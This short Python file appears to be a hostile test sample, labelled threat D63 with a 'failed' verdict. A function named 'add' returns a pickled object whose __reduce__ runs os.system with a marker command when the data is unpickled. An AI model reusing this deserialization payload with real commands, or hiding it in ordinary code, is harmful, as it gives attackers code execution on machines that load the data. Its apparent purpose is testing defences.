# threat: D63
# verdict: failed
# message: returned a bytes
import os
import pickle


class Plan:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-unpickled",)


def add(a, b):
    return pickle.dumps(Plan())
